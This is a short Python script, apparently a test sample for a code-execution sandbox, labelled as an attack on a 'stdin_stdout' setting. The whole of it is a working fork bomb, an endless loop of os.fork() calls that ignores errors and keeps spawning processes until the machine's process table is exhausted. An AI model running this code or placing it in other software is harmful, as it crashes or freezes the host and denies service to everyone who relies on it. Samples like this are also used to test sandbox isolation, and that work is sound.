# Attack on stdin_stdout (flooding): forks without end.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
